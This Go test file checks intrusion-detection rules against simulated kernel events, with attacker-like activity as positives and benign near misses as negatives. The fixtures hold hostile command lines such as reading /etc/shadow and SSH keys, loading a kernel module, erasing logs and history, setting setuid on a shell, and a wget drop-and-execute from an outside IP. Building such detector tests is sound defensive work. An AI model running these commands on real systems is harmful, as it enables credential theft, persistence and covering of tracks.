package detect

import (
	"strings"
	"testing"

	"github.com/edgesec/edgesec/event"
)

const testCID = "4f1e2d3c4b5a69788796a5b4c3d2e1f00112233445566778899aabbccddeeff"

// kact returns a KernelActivity event as the eBPF source writes it (see
// collector/kernel: Source "ebpf", Comm, and the container keys when the
// process is in one). extra are ExtraDetails pairs; "TargetPath" and
// "TargetProcessId" set those fields.
func kact(action, path, exe, cmdline string, extra ...string) event.Event {
	pidSeq++
	x := event.ExtraDetails{"Source": "ebpf", "Comm": base(exe)}
	p := &event.KernelActivityPayload{Action: action, Path: path, ProcessID: pidSeq, ParentProcessID: 900, Executable: exe,
		CommandLine: cmdline, UserID: "0", UserName: "root", ExtraDetails: x}
	for i := 0; i+1 < len(extra); i += 2 {
		switch extra[i] {
		case "TargetPath":
			p.TargetPath = extra[i+1]
		case "TargetProcessId":
			p.TargetProcessID = atoi(extra[i+1])
		default:
			x[extra[i]] = extra[i+1]
		}
	}
	switch action {
	case event.ActivityOpenRead:
		p.Operations = "read"
	case event.ActivityOpenWrite:
		p.Operations = "write"
	case event.ActivityUnlink, event.ActivityRename:
		p.Operations = "delete"
	case event.ActivityTruncate:
		p.Operations = "truncate"
	case event.ActivityLink, event.ActivitySymlink:
		p.Operations = "link"
	}
	return event.Must(event.KernelActivity, t0, p)
}

func atoi(s string) int {
	n := 0
	for _, c := range s {
		n = n*10 + int(c-'0')
	}
	return n
}

// TestKernelRules: every kernel activity rule fires on its positive
// event and stays quiet on a near miss.
func TestKernelRules(t *testing.T) {
	cases := []struct {
		name     string
		rule     string
		pos, neg event.Event
	}{
		{"shadow by cat", RuleReadSensitiveFile, kact(event.ActivityOpenRead, "/etc/shadow", "/usr/bin/cat", "cat /etc/shadow"),
			kact(event.ActivityOpenRead, "/etc/shadow", "/usr/sbin/unix_chkpwd", "/usr/sbin/unix_chkpwd root nullok")},
		{"ssh key by python", RuleReadSensitiveFile, kact(event.ActivityOpenRead, "/home/pi/.ssh/id_ed25519", "/usr/bin/python3.11", "python3 steal.py"),
			kact(event.ActivityOpenRead, "/home/pi/.ssh/id_ed25519", "/usr/bin/ssh", "ssh pi@10.0.0.1")},
		{"host key by less", RuleReadSensitiveFile, kact(event.ActivityOpenRead, "/etc/ssh/ssh_host_ed25519_key", "/usr/bin/less", "less /etc/ssh/ssh_host_ed25519_key"),
			kact(event.ActivityOpenRead, "/etc/ssh/sshd_config", "/usr/bin/less", "less /etc/ssh/sshd_config")},
		{"sudoers by sudo", RuleReadSensitiveFile, kact(event.ActivityOpenRead, "/etc/sudoers.d/90-cloud", "/usr/bin/grep", "grep -r NOPASSWD /etc/sudoers.d"),
			kact(event.ActivityOpenRead, "/etc/sudoers.d/90-cloud", "/usr/bin/sudo", "sudo id")},
		{"etc by sed", RuleWriteBelowEtc, kact(event.ActivityRename, "/etc/sedAb12Cd", "/usr/bin/sed", "sed -i s/no/yes/ /etc/ssh/sshd_config", "TargetPath", "/etc/ssh/sshd_config"),
			kact(event.ActivityRename, "/etc/sedAb12Cd", "/usr/bin/dpkg", "dpkg --configure -a", "TargetPath", "/etc/ssh/sshd_config")},
		{"cron by bash", RuleWriteBelowEtc, kact(event.ActivityOpenWrite, "/etc/cron.d/x", "/usr/bin/bash", "bash -c echo '* * * * * root sh /tmp/x' > /etc/cron.d/x"),
			kact(event.ActivityOpenWrite, "/etc/hostname", "/usr/bin/hostnamectl", "hostnamectl set-hostname edge1")},
		{"unlink in etc", RuleWriteBelowEtc, kact(event.ActivityUnlink, "/etc/ld.so.preload", "/usr/bin/rm", "rm /etc/ld.so.preload"),
			kact(event.ActivityUnlink, "/etc.bak/ld.so.preload", "/usr/bin/rm", "rm /etc.bak/ld.so.preload")},
		{"bin by cp", RuleWriteBelowBinaryDir, kact(event.ActivityOpenWrite, "/usr/local/bin/kworkerd", "/usr/bin/cp", "cp /tmp/x /usr/local/bin/kworkerd"),
			kact(event.ActivityOpenWrite, "/usr/bin/tar.dpkg-new", "/usr/bin/dpkg", "dpkg --unpack tar.deb")},
		{"bin replaced", RuleWriteBelowBinaryDir, kact(event.ActivityRename, "/tmp/ps", "/usr/bin/mv", "mv /tmp/ps /bin/ps", "TargetPath", "/bin/ps"),
			kact(event.ActivityRename, "/tmp/ps", "/usr/bin/mv", "mv /tmp/ps /tmp/ps2", "TargetPath", "/tmp/ps2")},
		{"symlink to shadow", RuleSymlinkOverSensitive, kact(event.ActivitySymlink, "/etc/shadow", "/usr/bin/ln", "ln -s /etc/shadow /tmp/x", "TargetPath", "/tmp/x"),
			kact(event.ActivitySymlink, "/etc/hostname", "/usr/bin/ln", "ln -s /etc/hostname /tmp/x", "TargetPath", "/tmp/x")},
		{"hard link to sudoers", RuleHardlinkOverSensitive, kact(event.ActivityLink, "/etc/sudoers", "/usr/bin/ln", "ln /etc/sudoers /tmp/s", "TargetPath", "/tmp/s"),
			kact(event.ActivityLink, "/etc/passwd-", "/usr/bin/ln", "ln /etc/passwd- /tmp/s", "TargetPath", "/tmp/s")},
		{"ptrace", RulePtraceAttached, kact(event.ActivityPtrace, "", "/usr/bin/gdb", "gdb -p 812", "TargetProcessId", "812"),
			kact(event.ActivityMemfdCreate, "x", "/usr/bin/gdb", "gdb -p 812")},
		{"memfd exec", RuleFilelessExecution, kact(event.ActivityExecMemfd, "/proc/self/fd/3", "/proc/self/fd/3", "kdevtmpfsi -o pool"),
			kact(event.ActivityExecMemfd, "/proc/self/fd/3", "/proc/self/fd/3", "runc init", "Comm", "runc:[1:CHILD]")},
		{"memfd create only", RuleFilelessExecution, kact(event.ActivityExecMemfd, "/dev/fd/4", "/dev/fd/4", "x"),
			kact(event.ActivityMemfdCreate, "x", "/usr/bin/python3.11", "python3 x.py")},
		{"packet socket", RulePacketSocketContainer, kact(event.ActivityPacketSocket, "", "/usr/sbin/tcpdump", "tcpdump -i eth0", "ContainerId", testCID, "ModuleName", "tempSensor", "SocketType", "3"),
			kact(event.ActivityPacketSocket, "", "/usr/sbin/dhclient", "dhclient eth0", "SocketType", "3")},
		{"module", RuleKernelModuleInjection, kact(event.ActivityModuleLoad, "/tmp/rk.ko", "/usr/sbin/insmod", "insmod /tmp/rk.ko"),
			kact(event.ActivityModuleLoad, "/lib/modules/6.18/kernel/fs/fuse.ko", "/usr/lib/systemd/systemd-modules-load", "/usr/lib/systemd/systemd-modules-load")},
		{"bpf", RuleBPFProgramLoaded, kact(event.ActivityBPFLoad, "", "/usr/sbin/bpftool", "bpftool prog load x.o /sys/fs/bpf/x"),
			kact(event.ActivityBPFLoad, "", "/usr/bin/runc", "runc --root /run/docker/runtime-runc/moby start abc")},
		{"log truncated", RuleRemovalOfSystemLogs, kact(event.ActivityTruncate, "/var/log/auth.log", "/usr/bin/bash", "bash"),
			kact(event.ActivityTruncate, "/var/log/auth.log", "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf")},
		{"log unlinked", RuleRemovalOfSystemLogs, kact(event.ActivityUnlink, "/var/log/wtmp", "/usr/bin/python3.11", "python3 -c import os; os.remove('/var/log/wtmp')"),
			kact(event.ActivityUnlink, "/var/log/journal/abc/system@x.journal", "/usr/lib/systemd/systemd-journald", "/usr/lib/systemd/systemd-journald")},
		{"log rotated", RuleRemovalOfSystemLogs, kact(event.ActivityRename, "/var/log/syslog", "/usr/bin/mv", "mv /var/log/syslog /tmp/s", "TargetPath", "/tmp/s"),
			kact(event.ActivityRename, "/var/log/syslog", "/usr/bin/mv", "mv /var/log/syslog /var/log/syslog.1", "TargetPath", "/var/log/syslog.1")},
		{"setuid shell copy", RuleSetuidBit, kact(event.ActivityChmodSetuid, "/tmp/.x/sh", "/usr/bin/chmod", "chmod 4755 /tmp/.x/sh", "Mode", "04755"),
			kact(event.ActivityChmodSetuid, "/usr/bin/passwd", "/usr/bin/dpkg", "dpkg --unpack passwd.deb", "Mode", "04755")},
		{"setgid by python", RuleSetuidBit, kact(event.ActivityChmodSetuid, "/opt/app/tool", "/usr/bin/python3.11", "python3 -c import os; os.chmod('/opt/app/tool', 0o2755)", "Mode", "02755"),
			kact(event.ActivityChmodSetuid, "/var/lib/docker/overlay2/abc/diff/usr/bin/su", "/usr/sbin/dockerd", "/usr/sbin/dockerd -H fd://", "Mode", "04755")},
		{"mount in container", RuleMountInContainer, kact(event.ActivityMount, "/dev/sda1", "/bin/mount", "mount /dev/sda1 /mnt", "TargetPath", "/mnt", "ContainerId", testCID, "ModuleName", "tempSensor"),
			kact(event.ActivityMount, "proc", "/proc/self/exe", "runc init", "TargetPath", "/proc", "ContainerId", testCID, "Comm", "runc:[2:INIT]")},
		{"mount on the host", RuleMountInContainer, kact(event.ActivityMount, "none", "/usr/bin/busybox", "mount -t tmpfs none /host/mnt", "TargetPath", "/host/mnt", "ContainerId", testCID),
			kact(event.ActivityMount, "/dev/sdb1", "/bin/mount", "mount /dev/sdb1 /media/usb", "TargetPath", "/media/usb")},
		{"history", RuleClearHistoryFile, kact(event.ActivityTruncate, "/root/.bash_history", "/usr/bin/bash", "-bash"),
			kact(event.ActivityOpenWrite, "/root/.bash_history", "/usr/bin/bash", "-bash")},
	}
	for _, c := range cases {
		t.Run(c.rule+"/"+c.name, func(t *testing.T) {
			h := newHarness(t, Options{})
			got := alertsOf(h.feed(c.pos), c.rule)
			if len(got) != 1 {
				t.Fatalf("positive %+v: %d %s alerts, want 1 (all: %v)", c.pos.Payload[0], len(got), c.rule, alertsOf(h.out, ""))
			}
			p := c.pos.Payload[0].(*event.KernelActivityPayload)
			a := got[0]
			if a.Executable != p.Executable || a.ProcessID != p.ProcessID || a.CommandLine != p.CommandLine || a.Description == "" ||
				a.ContainerID != p.ExtraDetails["ContainerId"] || len(a.TriggerEventIDs) != 1 || a.TriggerEventIDs[0] != c.pos.ID ||
				a.TriggerEventNames[0] != event.KernelActivity {
				t.Errorf("alert entity/trigger: %+v", a)
			}
			if p.Path != "" && a.ExtraDetails["Path"] != p.Path {
				t.Errorf("alert Path %q, want %q", a.ExtraDetails["Path"], p.Path)
			}
			h2 := newHarness(t, Options{})
			if got := alertsOf(h2.feed(c.neg), c.rule); len(got) != 0 {
				t.Errorf("negative %+v raised %s: %s", c.neg.Payload[0], c.rule, got[0].Description)
			}
		})
	}
}

// A child of a package manager (a maintainer script) is trusted like it;
// the same program started from a login shell is not.
func TestKernelRulesLineage(t *testing.T) {
	h := newHarness(t, Options{})
	dpkg := proc("/usr/bin/dpkg", "dpkg -i x.deb")
	dp := dpkg.Payload[0].(*event.ProcessCreatePayload)
	script := proc("/usr/bin/dash", "/bin/sh /var/lib/dpkg/info/x.postinst configure")
	sp := script.Payload[0].(*event.ProcessCreatePayload)
	sp.ParentProcessID = dp.ProcessID
	cp := kact(event.ActivityOpenWrite, "/usr/local/bin/x", "/usr/bin/cp", "cp /usr/share/x/x /usr/local/bin/x")
	cp.Payload[0].(*event.KernelActivityPayload).ParentProcessID = sp.ProcessID
	if a := alertsOf(h.feed(dpkg, script, cp), RuleWriteBelowBinaryDir); len(a) != 0 {
		t.Errorf("a grandchild of dpkg raised %s", a[0].Description)
	}
	cp2 := kact(event.ActivityOpenWrite, "/usr/local/bin/x", "/usr/bin/cp", "cp /usr/share/x/x /usr/local/bin/x")
	if a := alertsOf(h.feed(cp2), RuleWriteBelowBinaryDir); len(a) != 1 {
		t.Errorf("cp from a shell: %d alerts", len(a))
	}
	// A trusted program's own children are not trusted: a shell in an SSH
	// session or under sudo is anybody's.
	child := func(parent event.Event, ev event.Event) event.Event {
		ev.Payload[0].(*event.KernelActivityPayload).ParentProcessID = parent.Payload[0].(*event.ProcessCreatePayload).ProcessID
		return ev
	}
	session := proc("/usr/lib/openssh/sshd-session", "sshd-session: pi [priv]")
	shell := proc("/usr/bin/bash", "-bash")
	shell.Payload[0].(*event.ProcessCreatePayload).ParentProcessID = session.Payload[0].(*event.ProcessCreatePayload).ProcessID
	if a := alertsOf(h.feed(session, shell, child(shell, kact(event.ActivityOpenRead, "/etc/shadow", "/usr/bin/cat", "cat /etc/shadow"))), RuleReadSensitiveFile); len(a) != 1 {
		t.Errorf("cat /etc/shadow in an SSH session: %d alerts", len(a))
	}
	sudo := proc("/usr/bin/sudo", "sudo -s")
	if a := alertsOf(h.feed(sudo, child(sudo, kact(event.ActivityOpenWrite, "/etc/ld.so.preload", "/usr/bin/bash", "bash"))), RuleWriteBelowEtc); len(a) != 1 {
		t.Errorf("a shell under sudo writing /etc: %d alerts", len(a))
	}
	// The scripts of a DHCP client write /etc/resolv.conf for a living.
	dhclient := proc("/usr/sbin/dhclient", "dhclient -v eth0")
	if a := alertsOf(h.feed(dhclient, child(dhclient, kact(event.ActivityOpenWrite, "/etc/resolv.conf", "/usr/bin/dash", "/bin/sh /sbin/dhclient-script"))), RuleWriteBelowEtc); len(a) != 0 {
		t.Errorf("dhclient-script raised %s", a[0].Description)
	}
	// Every container process descends from containerd-shim, a BPF loader
	// itself: its descendants are not trusted.
	shim := proc("/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2 -namespace moby -id abc -address /run/containerd/containerd.sock")
	if a := alertsOf(h.feed(shim, child(shim, kact(event.ActivityBPFLoad, "", "/usr/bin/python3.11", "python3 sniff.py", "ContainerId", testCID))), RuleBPFProgramLoaded); len(a) != 1 {
		t.Errorf("a BPF load in a container: %d alerts", len(a))
	}
	if a := alertsOf(h.feed(kact(event.ActivityBPFLoad, "", "/usr/bin/runc", "runc init")), RuleBPFProgramLoaded); len(a) != 0 {
		t.Errorf("runc itself raised %s", a[0].Description)
	}
	// Extra trusted programs.
	h2 := newHarness(t, Options{Builtin: BuiltinOptions{TrustedPrograms: []string{"vendor-agent"}}})
	if a := alertsOf(h2.feed(kact(event.ActivityOpenRead, "/etc/shadow", "/opt/vendor/vendor-agent", "vendor-agent")), RuleReadSensitiveFile); len(a) != 0 {
		t.Errorf("a trusted program raised %s", a[0].Description)
	}
}

// Drop and execute: a file written in a container, then executed there.
func TestDropAndExecute(t *testing.T) {
	h := newHarness(t, Options{})
	in := []string{"ContainerId", testCID, "ModuleName", "tempSensor"}
	write := kact(event.ActivityOpenWrite, "/usr/local/bin/x", "/bin/busybox", "wget -O /usr/local/bin/x http://198.51.100.7/x", in...)
	run := proc("/usr/local/bin/x", "/usr/local/bin/x", in...)
	h.feed(write)
	a := alertsOf(h.feed(run), RuleDropAndExecuteNewBinary)
	if len(a) != 1 || a[0].ContainerID != testCID || a[0].ModuleName != "tempSensor" || a[0].Executable != "/usr/local/bin/x" ||
		!strings.Contains(a[0].Description, "/bin/busybox") || a[0].TriggerEventNames[0] != event.ProcessCreate {
		t.Fatalf("drop and execute: %+v", a)
	}
	// Renamed into place counts as written.
	mv := kact(event.ActivityRename, "/usr/local/bin/.tmp", "/bin/busybox", "mv /usr/local/bin/.tmp /usr/local/bin/y", append([]string{"TargetPath", "/usr/local/bin/y"}, in...)...)
	h.feed(mv)
	if a := alertsOf(h.feed(proc("/usr/local/bin/y", "y", in...)), RuleDropAndExecuteNewBinary); len(a) != 1 {
		t.Errorf("renamed into place: %d alerts", len(a))
	}

	// Negatives: the same path in another container, on the host, a file
	// never written, and after the TTL.
	h2 := newHarness(t, Options{})
	h2.feed(kact(event.ActivityOpenWrite, "/usr/local/bin/x", "/bin/busybox", "cp /bin/busybox /usr/local/bin/x", in...))
	other := strings.Repeat("ab", 32)
	for _, ev := range []event.Event{proc("/usr/local/bin/x", "x", "ContainerId", other), proc("/usr/local/bin/x", "x"),
		proc("/usr/local/bin/z", "z", in...)} {
		if a := alertsOf(h2.feed(ev), RuleDropAndExecuteNewBinary); len(a) != 0 {
			t.Errorf("%+v raised %s", ev.Payload[0], a[0].Description)
		}
	}
	h2.clock.Add(2 * 60 * 60 * 1e9)
	if a := alertsOf(h2.feed(proc("/usr/local/bin/x", "x", in...)), RuleDropAndExecuteNewBinary); len(a) != 0 {
		t.Errorf("after the TTL: %s", a[0].Description)
	}
	// A host write of the same path is not a container drop.
	h3 := newHarness(t, Options{})
	h3.feed(kact(event.ActivityOpenWrite, "/usr/local/bin/x", "/usr/bin/cp", "cp a /usr/local/bin/x"))
	if a := alertsOf(h3.feed(proc("/usr/local/bin/x", "x", in...)), RuleDropAndExecuteNewBinary); len(a) != 0 {
		t.Errorf("host write: %s", a[0].Description)
	}
}

// A log removed by rm raises the command-line rule once, not again from
// the kernel's unlink by the same process; a truncation by a shell
// redirection (no command-line evidence) raises it from the kernel.
func TestKernelLogDedup(t *testing.T) {
	h := newHarness(t, Options{})
	rm := proc("/usr/bin/rm", "rm -f /var/log/auth.log")
	ul := kact(event.ActivityUnlink, "/var/log/auth.log", "/usr/bin/rm", "rm -f /var/log/auth.log")
	ul.Payload[0].(*event.KernelActivityPayload).ProcessID = rm.Payload[0].(*event.ProcessCreatePayload).ProcessID
	if a := alertsOf(h.feed(rm, ul), RuleRemovalOfSystemLogs); len(a) != 1 || a[0].TriggerEventNames[0] != event.ProcessCreate {
		t.Fatalf("rm then unlink: %+v", a)
	}
	h2 := newHarness(t, Options{})
	tr := kact(event.ActivityTruncate, "/var/log/auth.log", "/usr/bin/dash", "sh -c : > /var/log/auth.log")
	if a := alertsOf(h2.feed(tr), RuleRemovalOfSystemLogs); len(a) != 1 || !strings.Contains(a[0].Description, "truncated the system log /var/log/auth.log") {
		t.Fatalf("truncation: %+v", a)
	}
}

// A container's processes descend from its runtime shim: the image
// unpackers are trusted to set the setuid bit themselves, not their
// descendants, so a chmod u+s in a container (its entrypoint or a docker
// exec) is an alert; a package manager's maintainer script stays trusted.
func TestSetuidInContainerNotTrustedByShim(t *testing.T) {
	h := newHarness(t, Options{})
	in := []string{"ContainerId", testCID, "ModuleName", "tempSensor"}
	shim := proc("/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2 -namespace moby -id "+testCID)
	entry := proc("/bin/busybox", "sh -c ./start.sh", in...)
	entry.Payload[0].(*event.ProcessCreatePayload).ParentProcessID = shim.Payload[0].(*event.ProcessCreatePayload).ProcessID
	chmod := kact(event.ActivityChmodSetuid, "/tmp/.x/sh", "/bin/busybox", "chmod 4755 /tmp/.x/sh", append([]string{"Mode", "04755"}, in...)...)
	chmod.Payload[0].(*event.KernelActivityPayload).ParentProcessID = entry.Payload[0].(*event.ProcessCreatePayload).ProcessID
	if a := alertsOf(h.feed(shim, entry, chmod), RuleSetuidBit); len(a) != 1 {
		t.Errorf("chmod 4755 by a child of a container's shim: %d %s alerts, want 1", len(a), RuleSetuidBit)
	}

	h = newHarness(t, Options{})
	dpkg := proc("/usr/bin/dpkg", "dpkg -i passwd.deb")
	script := proc("/usr/bin/dash", "/bin/sh /var/lib/dpkg/info/passwd.postinst configure")
	script.Payload[0].(*event.ProcessCreatePayload).ParentProcessID = dpkg.Payload[0].(*event.ProcessCreatePayload).ProcessID
	chmod = kact(event.ActivityChmodSetuid, "/usr/bin/passwd", "/usr/bin/chmod", "chmod 4755 /usr/bin/passwd", "Mode", "04755")
	chmod.Payload[0].(*event.KernelActivityPayload).ParentProcessID = script.Payload[0].(*event.ProcessCreatePayload).ProcessID
	if a := alertsOf(h.feed(dpkg, script, chmod), RuleSetuidBit); len(a) != 0 {
		t.Errorf("a maintainer script's chmod raised %s", a[0].Description)
	}
}
